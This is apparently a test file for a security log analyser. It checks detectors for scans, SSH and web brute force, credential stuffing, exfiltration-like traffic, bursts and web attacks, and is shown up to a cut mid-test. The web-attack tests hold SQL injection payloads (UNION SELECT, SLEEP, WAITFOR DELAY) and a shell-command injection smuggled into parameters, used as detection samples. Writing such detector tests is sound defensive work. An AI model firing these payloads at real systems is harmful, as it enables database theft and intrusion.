// Positive and negative cases for every detector, on small cases built row by row.
import { afterEach, describe, expect, it } from 'vitest';
import { analyzeCase } from '../../../src/core/analysis';
import type { Finding } from '../../../src/shared/model';
import { cleanup, flowPopulation, makeCase, T0, webPopulation, type Ev } from './helpers';

afterEach(cleanup);

async function run(events: Ev[], settings: Record<string, number> = {}): Promise<Finding[]> {
  const res = await analyzeCase(makeCase(events), { settings, inline: true });
  return res.findings;
}
const of = (fs: Finding[], detector: string): Finding[] => fs.filter((f) => f.detector === detector);

describe('portScan', () => {
  it('flags a source probing 200 ports with bare SYNs (high) and 60 ports (medium)', async () => {
    const scan = (ip: string, n: number): Ev[] =>
      Array.from({ length: n }, (_, p) => ({ ts: T0 + p * 50, src_ip: ip, src_port: 55000, dst_ip: '10.0.1.5', dst_port: p + 1, proto: 'TCP', flags: '....S.', packets: 1, bytes: 44 }));
    const f = of(await run([...flowPopulation(), ...scan('192.0.2.66', 200), ...scan('192.0.2.67', 60)]), 'portScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([
      ['192.0.2.66', 'high'],
      ['192.0.2.67', 'medium'],
    ]);
    expect(f[0]!.numbers.ports).toBe(200);
    expect(f[0]!.threshold).toMatchObject({ value: 200, threshold: 150, setting: 'portScan.minPorts' });
    expect(f[0]!.evidence.count).toBe(200);
    expect(f[0]!.explanation).toMatch(/200 distinct destination ports/);
  });

  it('counts connections a firewall logged with its verdict (VPC REJECT, UFW BLOCK), not login events', async () => {
    const blocked: Ev[] = Array.from({ length: 180 }, (_, p) => ({ ts: T0 + p * 50, src_ip: '192.0.2.70', src_port: 51234, dst_ip: '10.0.1.5', dst_port: 1000 + p, proto: 'TCP', action: 'reject', packets: 1, bytes: 40 }));
    // sshd failures carry a source port but are not connections to distinct services
    const logins: Ev[] = Array.from({ length: 180 }, (_, p) => ({ ts: T0 + p * 50, src_ip: '192.0.2.71', src_port: 40000 + p, dst_port: 1 + p, program: 'sshd', action: 'auth_failure', user: 'root' }));
    // refused attempts on high ports from a low source port are still attempts; refused stray ACKs are replies
    const high: Ev[] = Array.from({ length: 160 }, (_, p) => ({ ts: T0 + p * 50, src_ip: '192.0.2.72', src_port: 2000, dst_ip: '10.0.1.5', dst_port: 30000 + p, proto: 'TCP', action: 'reject' }));
    const stray: Ev[] = Array.from({ length: 160 }, (_, p) => ({ ts: T0 + p * 50, src_ip: '10.0.1.6', src_port: 443, dst_ip: '192.0.2.73', dst_port: 30000 + p, proto: 'TCP', action: 'reject', flags: 'RA' }));
    const f = of(await run([...flowPopulation(), ...blocked, ...logins, ...high, ...stray]), 'portScan');
    expect(f.map((x) => [x.entity, x.numbers.ports])).toEqual([['192.0.2.70', 180], ['192.0.2.72', 160]]);
  });

  it('does not count a busy server\'s replies to hundreds of ephemeral client ports', async () => {
    const f = await run(flowPopulation(40));
    // each server replied to ~200 distinct ephemeral ports: not a scan
    expect(of(f, 'portScan')).toEqual([]);
  });
});

describe('hostScan', () => {
  it('flags an ICMP sweep of 120 hosts', async () => {
    const sweep: Ev[] = Array.from({ length: 120 }, (_, h) => ({ ts: T0 + h * 100, src_ip: '10.0.2.250', dst_ip: `10.0.3.${h}`, proto: 'ICMP', packets: 1, bytes: 64 }));
    const f = of(await run([...flowPopulation(), ...sweep]), 'hostScan');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entity: '10.0.2.250', severity: 'medium' });
    expect(f[0]!.title).toMatch(/Ping sweep/);
  });

  it('does not flag a proxy that really talks to many hosts on 443', async () => {
    const proxy: Ev[] = Array.from({ length: 300 }, (_, h) => ({ ts: T0 + h * 1000, src_ip: '10.0.2.1', src_port: 50000 + h, dst_ip: `203.0.113.${h % 250}`, dst_port: 443, proto: 'TCP', flags: '.AP.SF', packets: 40, bytes: 90000 }));
    expect(of(await run([...flowPopulation(), ...proxy]), 'hostScan')).toEqual([]);
  });
});

describe('bruteForce', () => {
  const ssh = (ip: string, fails: number, oks: number, user = (i: number) => `u${i % 9}`): Ev[] => [
    ...Array.from({ length: fails }, (_, i) => ({ ts: T0 + i * 3000, src_ip: ip, program: 'sshd', action: 'auth_failure', user: user(i) })),
    ...Array.from({ length: oks }, (_, i) => ({ ts: T0 + fails * 3000 + i * 600_000, src_ip: ip, program: 'sshd', action: 'auth_success', user: 'ubuntu' })),
  ];

  it('flags SSH password guessing and calls a later success critical', async () => {
    const f = of(await run([...ssh('203.0.113.5', 40, 0), ...ssh('203.0.113.6', 150, 2)]), 'bruteForce');
    const by = Object.fromEntries(f.map((x) => [x.entity, x]));
    expect(by['203.0.113.5']!.severity).toBe('medium');
    expect(by['203.0.113.6']!.severity).toBe('critical');
    expect(by['203.0.113.6']!.explanation).toMatch(/compromised/);
  });

  it('names the service from the program that logged the failures (SSH, Windows logon)', async () => {
    const win: Ev[] = Array.from({ length: 30 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.23', program: 'Microsoft-Windows-Security-Auditing', action: 'auth_failure', user: `u${i % 7}` }));
    const f = of(await run([...ssh('203.0.113.5', 40, 0), ...win]), 'bruteForce');
    const by = Object.fromEntries(f.map((x) => [x.entity, x.title]));
    expect(by['203.0.113.5']).toMatch(/^SSH brute force/);
    expect(by['198.51.100.23']).toMatch(/^Windows logon brute force from 198\.51\.100\.23: 30 failed logins/);
  });

  it('counts an unknown-user guess once though sshd logs it on two lines; a name probe without a password counts too', async () => {
    // 30 guesses: "Invalid user uN from A" (older sshd: no port) then "Failed password for invalid user uN from A port P";
    // then 10 probes where no password was tried (notice only), some repeating a name
    const ev: Ev[] = [];
    for (let i = 0; i < 30; i++) {
      ev.push({ ts: T0 + i * 3000, src_ip: '203.0.113.7', program: 'sshd', action: 'invalid_user', user: `u${i % 5}` });
      ev.push({ ts: T0 + i * 3000 + 1, src_ip: '203.0.113.7', src_port: 40000 + i, program: 'sshd', action: 'auth_failure', user: `u${i % 5}` });
    }
    for (let i = 0; i < 10; i++) ev.push({ ts: T0 + 100_000 + i * 3000, src_ip: '203.0.113.7', src_port: 50000 + i, program: 'sshd', action: 'invalid_user', user: `p${i % 3}` });
    const [f] = of(await run(ev), 'bruteForce');
    expect(f!.numbers.failures).toBe(40);
    expect(f!.numbers.invalidUsers).toBe(40);
    expect(f!.title).toMatch(/: 40 failed logins$/);
    expect(f!.explanation).toMatch(/counts once/);
  });

  it('counts a connection cut off at the attempt limit as the attempts sshd did not log', async () => {
    const A = '198.51.100.77';
    const ev: Ev[] = [];
    // 3 connections with nothing logged but the limit (failed key attempts are below INFO): 3 x 6
    for (let c = 0; c < 3; c++) ev.push({ ts: T0 + c * 5000, src_ip: A, src_port: 41000 + c, program: 'sshd', action: 'auth_max_attempts', user: 'root' });
    // 2 connections whose six password guesses were all logged: the limit line adds nothing
    for (let c = 0; c < 2; c++) {
      for (let g = 0; g < 6; g++) ev.push({ ts: T0 + 20_000 + c * 10_000 + g, src_ip: A, src_port: 42000 + c, program: 'sshd', action: 'auth_failure', user: 'root' });
      ev.push({ ts: T0 + 20_000 + c * 10_000 + 7, src_ip: A, src_port: 42000 + c, program: 'sshd', action: 'auth_max_attempts', user: 'root' });
    }
    // an unknown user announced without a port (older sshd), then cut off on its connection: 1 + 5
    ev.push({ ts: T0 + 60_000, src_ip: A, program: 'sshd', action: 'invalid_user', user: 'support' });
    ev.push({ ts: T0 + 60_001, src_ip: A, src_port: 43000, program: 'sshd', action: 'auth_max_attempts', user: 'support' });
    const [f] = of(await run(ev), 'bruteForce');
    expect(f!.numbers.failures).toBe(18 + 12 + 6);
    expect(f!.numbers.cutOffConnections).toBe(6);
    expect(f!.explanation).toMatch(/maximum authentication attempts exceeded/);
    expect(f!.explanation).toMatch(/bruteForce\.maxAuthTries/);
    expect(f!.evidence.count).toBe(ev.length);
    // the limit is a setting: sshd configured with MaxAuthTries 3
    const [g] = of(await run(ev, { 'bruteForce.maxAuthTries': 3 }), 'bruteForce');
    expect(g!.numbers.failures).toBe(9 + 12 + 3);
  });

  it('counts a connection closed while authenticating as one failure when none was logged on it (key-only servers)', async () => {
    const A = '198.51.100.78';
    const ev: Ev[] = [];
    // 30 connections where the client gave up authenticating as root: nothing else is logged for a failed key
    for (let c = 0; c < 30; c++) ev.push({ ts: T0 + c * 2000, src_ip: A, src_port: 41000 + c, program: 'sshd', action: 'auth_abandoned', user: 'root' });
    // 5 connections with three logged password failures each, then the close: it adds nothing
    for (let c = 0; c < 5; c++) {
      for (let g = 0; g < 3; g++) ev.push({ ts: T0 + 100_000 + c * 10_000 + g, src_ip: A, src_port: 42000 + c, program: 'sshd', action: 'auth_failure', user: 'admin' });
      ev.push({ ts: T0 + 100_000 + c * 10_000 + 5, src_ip: A, src_port: 42000 + c, program: 'sshd', action: 'auth_abandoned', user: 'admin' });
    }
    // a user whose agent offered a wrong key twice before logging in for a day: not an attack
    const user: Ev[] = [0, 1].map((c) => ({ ts: T0 + c * 60_000, src_ip: '10.1.2.4', src_port: 50300 + c, program: 'sshd', action: 'auth_abandoned', user: 'deploy' }));
    for (let i = 0; i < 40; i++) user.push({ ts: T0 + 120_000 + i * 600_000, src_ip: '10.1.2.4', src_port: 50400 + i, program: 'sshd', action: 'auth_success', user: 'deploy' });
    const f = of(await run([...ev, ...user]), 'bruteForce');
    expect(f.map((x) => x.entity)).toEqual([A]);
    expect(f[0].numbers).toMatchObject({ failures: 45, abandonedConnections: 30, userNames: 2 });
    expect(f[0].explanation).toMatch(/closed while authenticating/);
    // the evidence query selects every line of it, the closes too
    expect(f[0].evidence.count).toBe(ev.length);
  });

  it('counts a "message repeated N times" failure as N failures', async () => {
    // three connections of five password guesses, rsyslog folding the last four of each into one line
    const ev: Ev[] = [];
    for (let c = 0; c < 3; c++) {
      const base = { src_ip: '203.0.113.61', src_port: 51000 + c, program: 'sshd', action: 'auth_failure', user: 'root' };
      ev.push({ ...base, ts: T0 + c * 10_000 });
      ev.push({ ...base, ts: T0 + c * 10_000 + 8000, extra: JSON.stringify({ pid: String(900 + c), repeated: '4' }) });
      // then cut off at a limit of 5: nothing unlogged is left to add
      ev.push({ ...base, ts: T0 + c * 10_000 + 8001, action: 'auth_max_attempts' });
    }
    const [f] = of(await run(ev, { 'bruteForce.maxAuthTries': 5 }), 'bruteForce');
    expect(f!.numbers.failures).toBe(15);
    expect(f!.explanation).toMatch(/3 "message repeated N times" line/);
  });

  it('does not call a login after failures known only from the attempt limit a compromise', async () => {
    // a client offering more keys than MaxAuthTries is cut off twice, then logs in with the right one
    const ev: Ev[] = [0, 1].map((c) => ({ ts: T0 + c * 5000, src_ip: '10.1.2.3', src_port: 50100 + c, program: 'sshd', action: 'auth_max_attempts', user: 'deploy' }));
    ev.push({ ts: T0 + 20_000, src_ip: '10.1.2.3', src_port: 50200, program: 'sshd', action: 'auth_success', user: 'deploy' });
    const [f] = of(await run(ev), 'bruteForce');
    expect(f!.numbers.failures).toBe(12);
    expect(f!.severity).toBe('low');
    expect(f!.explanation).toMatch(/ssh-agent/);
    // a CI runner cut off 200 times (1,200 inferred failures, past highFailures) that logs in 900 times: still low
    const ci: Ev[] = Array.from({ length: 200 }, (_, c) => ({ ts: T0 + c * 60_000, src_ip: '10.30.0.5', src_port: 51000 + c, program: 'sshd', action: 'auth_max_attempts', user: 'deploy' }));
    for (let i = 0; i < 900; i++) ci.push({ ts: T0 + i * 60_000 + 30_000, src_ip: '10.30.0.5', src_port: 52000 + i, program: 'sshd', action: 'auth_success', user: 'deploy' });
    const [g] = of(await run(ci), 'bruteForce');
    expect([g!.severity, g!.numbers.failures]).toEqual(['low', 1200]);
    expect(f!.explanation).not.toMatch(/compromised until shown otherwise/);
  });

  it('does not flag a busy legitimate user who mistypes now and then', async () => {
    const f = of(await run(ssh('85.245.107.41', 12, 35, () => 'ubuntu')), 'bruteForce');
    expect(f).toEqual([]);
  });

  it('flags 401s on a login path, and many short flows to port 22', async () => {
    const web: Ev[] = Array.from({ length: 40 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.200', method: 'POST', path: '/wp-login.php', status: 401 }));
    const flows: Ev[] = Array.from({ length: 250 }, (_, i) => ({ ts: T0 + i * 2000, src_ip: '192.0.2.44', src_port: 40000 + i, dst_ip: '10.0.1.22', dst_port: 22, proto: 'TCP', packets: 12, duration: 0.8, bytes: 2000 }));
    const f = of(await run([...webPopulation(20), ...web, ...flows]), 'bruteForce');
    expect(f.map((x) => x.entity).sort()).toEqual(['192.0.2.44', '198.51.100.200']);
    expect(f.find((x) => x.entity === '192.0.2.44')!.evidence.count).toBe(250);
    // a refused POST is one login attempt, not a refusal plus a POST
    const web200 = f.find((x) => x.entity === '198.51.100.200')!;
    expect(web200.title).toMatch(/: 40 login attempts$/);
    expect(web200.numbers).toMatchObject({ loginAttempts: 40, loginDenied: 40, loginPosts: 0 });
  });

  it('counts WordPress-style wrong passwords (the form shown again), not logins that worked or API calls under login-like words', async () => {
    const wp: Ev[] = Array.from({ length: 60 }, (_, i) => ({ ts: T0 + i * 5000, src_ip: '198.51.100.201', method: 'POST', path: '/wp-login.php', status: 200 }));
    // a NAT gateway: many people logging in (redirect = success), now and then a wrong password
    const nat: Ev[] = Array.from({ length: 400 }, (_, i) => ({ ts: T0 + i * 20_000, src_ip: '203.0.113.45', method: 'POST', path: '/login', status: i % 10 === 0 ? 200 : 302 }));
    // a mobile app polling its API
    const app: Ev[] = Array.from({ length: 1000 }, (_, i) => ({ ts: T0 + i * 30_000, src_ip: '203.0.113.46', method: 'POST', path: i % 2 ? '/api/v2/session/heartbeat' : '/api/v2/auth/token/refresh', status: i % 2 ? 204 : 200 }));
    const all = await run([...webPopulation(20), ...wp, ...nat, ...app]);
    const f = of(all, 'bruteForce');
    expect(f.map((x) => x.entity)).toEqual(['198.51.100.201']);
    expect(f[0]!.numbers).toMatchObject({ loginPosts: 60, loginAttempts: 60 });
    expect(f[0]!.evidence.count).toBe(60);
    expect(of(all, 'credentialStuffing')).toEqual([]);
  });

  it('calls a guessed web password critical: the form shown again hundreds of times, then a redirect (a login that worked)', async () => {
    const guess: Ev[] = Array.from({ length: 300 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.202', method: 'POST', path: '/wp-login.php', status: 200 }));
    const won: Ev = { ts: T0 + 301_000, src_ip: '198.51.100.202', method: 'POST', path: '/wp-login.php', status: 302 };
    // the same guessing that never got in stays high; a redirect before the guessing began is no success of it
    const lost: Ev[] = Array.from({ length: 300 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.203', method: 'POST', path: '/wp-login.php', status: 200 }));
    const earlier: Ev[] = [{ ts: T0 - 60_000, src_ip: '198.51.100.204', method: 'POST', path: '/wp-login.php', status: 302 }, ...lost.map((e) => ({ ...e, src_ip: '198.51.100.204' }))];
    // Fortinet's SSL VPN and Magento post their logins under other names
    const vpn: Ev[] = Array.from({ length: 50 }, (_, i) => ({ ts: T0 + i * 3000, src_ip: '198.51.100.205', method: 'POST', path: '/remote/logincheck', status: 200 }));
    const shop: Ev[] = Array.from({ length: 50 }, (_, i) => ({ ts: T0 + i * 3000, src_ip: '198.51.100.206', method: 'POST', path: '/customer/account/loginPost/', status: 200 }));
    // a login API refuses with 401 and answers a login that worked 200: 120 refusals, then a 200
    const api: Ev[] = [...Array.from({ length: 120 }, (_, i) => ({ ts: T0 + i * 1000, src_ip: '198.51.100.207', method: 'POST', path: '/api/v1/auth/login', status: 401 })), { ts: T0 + 200_000, src_ip: '198.51.100.207', method: 'POST', path: '/api/v1/auth/login', status: 200 }];
    const f = of(await run([...webPopulation(20), ...guess, won, ...lost, ...earlier, ...vpn, ...shop, ...api]), 'bruteForce');
    const by = new Map(f.map((x) => [x.entity, x]));
    expect(by.get('198.51.100.202')!.severity).toBe('critical');
    expect(by.get('198.51.100.202')!.title).toMatch(/300 login attempts, then a login that worked$/);
    expect(by.get('198.51.100.202')!.numbers).toMatchObject({ loginPosts: 300, loginsRedirected: 1, lastLoginWorked: T0 + 301_000 });
    expect(by.get('198.51.100.202')!.explanation).toMatch(/treat the account it logged in to as compromised/i);
    expect(by.get('198.51.100.202')!.evidence.count).toBe(301);
    expect(by.get('198.51.100.203')!.severity).toBe('high');
    expect(by.get('198.51.100.204')!.severity).toBe('high');
    expect(by.get('198.51.100.204')!.title).not.toMatch(/worked/);
    expect(by.get('198.51.100.205')!.numbers).toMatchObject({ loginPosts: 50 });
    expect(by.get('198.51.100.206')!.numbers).toMatchObject({ loginPosts: 50 });
    expect(by.get('198.51.100.207')!.severity).toBe('critical');
    expect(by.get('198.51.100.207')!.numbers).toMatchObject({ loginDenied: 120, lastLoginWorked: T0 + 200_000 });
    expect(by.get('198.51.100.207')!.explanation).toMatch(/answered 200 1 time\(s\), the way this login API answers a login that worked/);
  });

  it('reports a resolver querying many name servers (one packet each way on 53) low', async () => {
    const dns: Ev[] = Array.from({ length: 300 }, (_, i) => ({ ts: T0 + i * 5000, src_ip: '10.0.0.53', src_port: 40000 + i, dst_ip: `198.51.${100 + (i % 3)}.${(i % 250) + 1}`, dst_port: 53, proto: 'UDP', packets: 1, bytes: 70 }));
    const f = of(await run([...flowPopulation(), ...dns]), 'hostScan');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.0.53', 'low']]);
    expect(f[0]!.explanation).toMatch(/resolver or time server/);
  });

  it('does not flag ordinary SSH/RDP use spread over a working day, nor ping replies as a sweep', async () => {
    const day: Ev[] = Array.from({ length: 1000 }, (_, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.8', src_port: 40000 + i, dst_ip: '10.0.1.22', dst_port: 3389, proto: 'TCP', packets: 7, duration: 1.2, bytes: 3000 }));
    const replies: Ev[] = Array.from({ length: 120 }, (_, h) => ({ ts: T0 + h * 1000, src_ip: '10.0.1.22', dst_ip: `10.0.3.${h}`, proto: 'ICMP', flags: '0.0', packets: 1, bytes: 64 }));
    const f = await run([...day, ...replies]);
    expect(of(f, 'bruteForce')).toEqual([]);
    expect(of(f, 'hostScan')).toEqual([]);
  });

  it('does not flag long SSH sessions', async () => {
    const flows: Ev[] = Array.from({ length: 150 }, (_, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.7', src_port: 40000 + i, dst_ip: '10.0.1.22', dst_port: 22, proto: 'TCP', packets: 4000, duration: 1800, bytes: 9e6 }));
    expect(of(await run(flows), 'bruteForce')).toEqual([]);
  });
});

describe('credentialStuffing', () => {
  it('flags many sources each failing a little on one login path in one window', async () => {
    const ev: Ev[] = [];
    for (let s = 0; s < 25; s++) for (let i = 0; i < 3; i++) ev.push({ ts: T0 + s * 10_000 + i * 1000, src_ip: `192.0.2.${s + 1}`, method: 'POST', path: '/login', status: 401 });
    const f = of(await run([...webPopulation(10), ...ev]), 'credentialStuffing');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entity: '/login', entityType: 'path' });
    expect(f[0]!.numbers.peakSources).toBe(25);
    // no address is a brute-forcer on its own; all 25 are in one /24, which is named as one guesser
    // rotating its address (as for SSH and Windows logons), never address by address
    expect(of(await run([...webPopulation(10), ...ev]), 'bruteForce').map((x) => [x.entity, x.entityType])).toEqual([['192.0.2.0/24', 'population']]);
  });

  it('names the service of a distributed Windows logon spray', async () => {
    const ev: Ev[] = [];
    for (let s = 0; s < 20; s++) for (let i = 0; i < 2; i++) ev.push({ ts: T0 + s * 15_000 + i * 1000, src_ip: `203.0.113.${s + 1}`, program: 'Microsoft-Windows-Security-Auditing', action: 'auth_failure', user: 'administrator' });
    const f = of(await run([...webPopulation(10), ...ev]), 'credentialStuffing');
    expect(f.map((x) => x.title)).toEqual(['Credential stuffing on Windows logon (Microsoft-Windows-Security-Auditing): 20 sources in 10 min']);
  });

  it('does not flag a handful of users mistyping passwords', async () => {
    const ev: Ev[] = Array.from({ length: 5 }, (_, s) => ({ ts: T0 + s * 60_000, src_ip: `192.0.2.${s + 1}`, method: 'POST', path: '/login', status: 401 }));
    expect(of(await run([...webPopulation(10), ...ev]), 'credentialStuffing')).toEqual([]);
  });
});

describe('heavyTraffic', () => {
  it('calls 1.5 GB from an internal host to an external one possible exfiltration (high)', async () => {
    const exfil: Ev[] = Array.from({ length: 15 }, (_, i) => ({ ts: T0 + i * 60_000, src_ip: '10.0.2.9', src_port: 50000 + i, dst_ip: '203.0.113.50', dst_port: 443, proto: 'TCP', bytes: 100_000_000 }));
    const f = of(await run([...flowPopulation(), ...exfil]), 'heavyTraffic');
    expect(f).toHaveLength(1);
    expect(f[0]).toMatchObject({ entity: '10.0.2.9', severity: 'high' });
    expect(f[0]!.explanation).toMatch(/exfiltration/);
    expect(f[0]!.evidence.query).toBe('src_ip:10.0.2.9 dst_ip:203.0.113.50');
  });

  it('explains a nightly backup between internal hosts on rsync as low severity', async () => {
    const backup: Ev[] = Array.from({ length: 20 }, (_, i) => ({ ts: T0 + i * 86_400_000, src_ip: '10.0.2.10', src_port: 50000 + i, dst_ip: '10.0.9.200', dst_port: 873, proto: 'TCP', bytes: 150_000_000 }));
    const f = of(await run([...flowPopulation(), ...backup]), 'heavyTraffic');
    expect(f).toHaveLength(1);
    expect(f[0]!.severity).toBe('low');
    expect(f[0]!.explanation).toMatch(/backup/);
  });

  it('stays quiet below the summary threshold', async () => {
    expect(of(await run(flowPopulation()), 'heavyTraffic')).toEqual([]);
  });

  it('reports many servers backing up to one store once, for the store', async () => {
    const backups: Ev[] = [];
    for (let h = 0; h < 8; h++) for (let n = 0; n < 5; n++) backups.push({ ts: T0 + n * 86_400_000 + h * 60_000, src_ip: `10.0.4.${h + 1}`, src_port: 50000 + n, dst_ip: '10.0.9.200', dst_port: 873, proto: 'TCP', bytes: 150_000_000 });
    const f = of(await run([...flowPopulation(), ...backups]), 'heavyTraffic');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([['10.0.9.200', 'low']]);
    expect(f[0]!.numbers).toMatchObject({ sources: 8, bytes: 6_000_000_000 });
    expect(f[0]!.evidence.count).toBe(40);
  });

  it('names a large file many sources downloaded once (info), and still reports the one source that took a file nobody else did', async () => {
    const iso: Ev[] = Array.from({ length: 12 }, (_, i) => ({ ts: T0 + i * 3_600_000, src_ip: `198.51.100.${i + 1}`, method: 'GET', path: '/downloads/distro.iso', status: 200, bytes: 3_900_000_000, user_agent: 'Wget/1.21' }));
    const dump: Ev[] = [{ ts: T0 + 5000, src_ip: '203.0.113.99', method: 'GET', path: '/backup/db.sql.gz', status: 200, bytes: 2_500_000_000, user_agent: 'curl/8.4' }];
    const f = of(await run([...webPopulation(20), ...iso, ...dump]), 'heavyTraffic');
    expect(f.map((x) => [x.entity, x.severity])).toEqual([
      ['203.0.113.99', 'medium'],
      ['/downloads/distro.iso', 'info'],
    ]);
    const file = f.find((x) => x.entity === '/downloads/distro.iso')!;
    expect(file.numbers).toMatchObject({ sources: 12, requests: 12 });
    expect(file.evidence.count).toBe(12);
    const one = f.find((x) => x.entity === '203.0.113.99')!;
    expect(one.explanation).toMatch(/Most of it is \/backup\/db\.sql\.gz \(2\.33 GiB in 1 request\)/);
    expect(one.explanation).toMatch(/in 1 request\./);
    // an export API answering one outside client with large bodies again and again: high
    const exportApi: Ev[] = Array.from({ length: 40 }, (_, i) => ({ ts: T0 + i * 900_000, src_ip: '203.0.113.150', method: 'GET', path: '/api/v2/export/customers', query: `page=${i}`, status: 200, bytes: 40_000_000, user_agent: 'python-requests/2.31' }));
    const e = of(await run([...webPopulation(20), ...exportApi]), 'heavyTraffic');
    expect(e.map((x) => [x.entity, x.severity])).toEqual([['203.0.113.150', 'high']]);
    expect(e[0]!.explanation).toMatch(/pulled out by script/);
    // with a higher bar for "published", every downloader is its own finding again
    const g = of(await run([...webPopulation(20), ...iso, ...dump], { 'heavyTraffic.sharedDownloadSources': 20 }), 'heavyTraffic');
    expect(g).toHaveLength(13);
  });
});

describe('bursts', () => {
  it('flags 1,200 requests in one minute from a source that is otherwise quiet', async () => {
    const flood: Ev[] = Array.from({ length: 1200 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 40, src_ip: '192.0.2.99', method: 'GET', path: '/', status: 200, bytes: 500 }));
    const f = of(await run([...webPopulation(50), ...flood]), 'bursts');
    expect(f).toHaveLength(1);
    expect(f[0]!.entity).toBe('192.0.2.99');
    expect(f[0]!.evidence.count).toBe(1200);
  });

  it('flags a smaller burst (40/min) when the server answered it with 503/429, and not the same burst answered 200', async () => {
    const burst = (ip: string, strained: boolean): Ev[] =>
      Array.from({ length: 200 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 1500, src_ip: ip, method: 'GET', path: '/search', status: strained && i > 80 && i % 3 !== 0 ? 503 : 200, bytes: 500 }));
    const f = of(await run([...webPopulation(50), ...burst('192.0.2.90', true), ...burst('192.0.2.91', false)]), 'bursts');
    expect(f.map((x) => x.entity)).toEqual(['192.0.2.90']);
    expect(f[0]!.threshold).toMatchObject({ setting: 'bursts.strainedPerMinute', threshold: 20 });
    expect(f[0]!.numbers.refused503or429).toBe(79);
    expect(f[0]!.explanation).toMatch(/79 of its 200 requests with 503/);
  });

  it('reports a browser opening a page full of images low, and a flood of one referred image or of bare requests as it was', async () => {
    const ref = 'http://example.com/slides/';
    // 100 requests in one minute: a slide deck's 50 images loaded, then reloaded (answered 304)
    const page: Ev[] = Array.from({ length: 100 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 500, src_ip: '192.0.2.70', method: 'GET', path: `/slides/images/slide-${i % 50}.png`, status: i < 50 ? 200 : 304, bytes: 40_000, referrer: ref }));
    // the same rate on one image, referrer and all: a flood repeats itself
    const oneImage: Ev[] = Array.from({ length: 100 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 500, src_ip: '192.0.2.71', method: 'GET', path: '/slides/images/big.png', status: 200, bytes: 900_000, referrer: ref }));
    // many different files but no referrer: a tool walking the site
    const bare: Ev[] = Array.from({ length: 100 }, (_, i) => ({ ts: T0 + 7_200_000 + i * 500, src_ip: '192.0.2.72', method: 'GET', path: `/slides/images/slide-${i}.png`, status: 200, bytes: 40_000 }));
    const f = of(await run([...webPopulation(50), ...page, ...oneImage, ...bare]), 'bursts');
    const sev = Object.fromEntries(f.map((x) => [x.entity, x.severity]));
    expect(sev).toEqual({ '192.0.2.70': 'low', '192.0.2.71': 'medium', '192.0.2.72': 'medium' });
    const low = f.find((x) => x.entity === '192.0.2.70')!;
    expect(low.title).toBe('Burst from 192.0.2.70: 100 events in one minute, mostly page files');
    expect(low.explanation).toContain('100 of that minute\'s requests were static files (images, styles, scripts, fonts) a page referred to, 50 of them different');
    expect(low.numbers.pageResourcesInPeakMinute).toBe(100);
  });

  it('does not flag a client that is steadily busy at its usual rate', async () => {
    const steady: Ev[] = Array.from({ length: 60 * 700 }, (_, i) => ({ ts: T0 + Math.floor(i / 700) * 60_000 + (i % 700) * 80, src_ip: '192.0.2.98', method: 'GET', path: '/api/poll', status: 200 }));
    expect(of(await run([...webPopulation(50), ...steady]), 'bursts')).toEqual([]);
  });
});

describe('webAttacks', () => {
  it('finds payloads sqlmap puts in the Referer, and leaves ordinary referrers alone', async () => {
    const ev: Ev[] = [
      { ts: T0, src_ip: '192.0.2.30', method: 'GET', path: '/index.php', status: 200, referrer: "http://shop.example/?id=1' UNION SELECT password FROM users-- -" },
      { ts: T0 + 1000, src_ip: '192.0.2.31', method: 'GET', path: '/index.php', status: 200, referrer: 'https://www.google.com/search?q=union+select+tutorial' },
    ];
    const f = of(await run([...webPopulation(20), ...ev]), 'webAttacks');
    expect(f.map((x) => [x.entity, x.numbers.kinds])).toEqual([['192.0.2.30', 'sqli']]);
  });

  it('calls a time-based injection critical when the answers took the wait it asked for and others like it came at once; a server slow to everyone is not proof', async () => {
    const q = (i: number, wait: number): string => `id=12%27%20AND%20(SELECT%20${i}%20FROM%20(SELECT(SLEEP(${wait})))a)--%20-`;
    // sqlmap's conditional waits: a quarter of them true (5 s), the rest answered at once
    const blind: Ev[] = Array.from({ length: 40 }, (_, i) => ({ ts: T0 + i * 6000, src_ip: '192.0.2.40', method: 'GET', path: '/products', query: q(i, 5), status: 200, duration: i % 4 ? 0.03 : 5.02 }));
    // a server stalled for everyone: every answer slow, no quick one to compare with
    const stalled: Ev[] = Array.from({ length: 4 }, (_, i) => ({ ts: T0 + i * 6000, src_ip: '192.0.2.41', method: 'GET', path: '/products', query: q(i, 5), status: 200, duration: 5.5 }));
    // WAITFOR DELAY on SQL Server, a 30 s stall is no 5 s wait
    const mssql: Ev[] = [
      { ts: T0, src_ip: '192.0.2.42', method: 'GET', path: '/item.aspx', query: "id=1';WAITFOR%20DELAY%20'0:0:5'--", status: 200, duration: 5.1 },
      { ts: T0 + 1000, src_ip: '192.0.2.42', method: 'GET', path: '/item.aspx', query: "id=1';IF(1=2)%20WAITFOR%20DELAY%20'0:0:5'--", status: 200, duration: 0.04 },
      { ts: T0 + 2000, src_ip: '192.0.2.43', method: 'GET', path: '/item.aspx', query: "id=1';WAITFOR%20DELAY%20'0:0:5'--", status: 200, duration: 30 },
      { ts: T0 + 3000, src_ip: '192.0.2.43', method: 'GET', path: '/item.aspx', query: "id=1';IF(1=2)%20WAITFOR%20DELAY%20'0:0:5'--", status: 200, duration: 0.04 },
    ];
    // commix's shell waits: the same `;sleep 5` in several parameters, one of which reaches a shell
    const shell: Ev[] = Array.from({ length: 6 }, (_, i) => ({ ts: T0 + i * 9000, src_ip: '192.0.2.44', method: 'GET', path: '/ping.php', query: `${['host', 'count', 'ip'][i % 3]}=127.0.0.1%3Bsleep%205%3B`, status: 200, duration: i % 3 === 2 ? 5.03 : 0.02 }));
    const f = of(await run([...webPopulation(20), ...blind, ...stalled, ...mssql, ...shell]), 'webAttacks');
    const by = new Map(f.map((x) => [x.entity, x]));
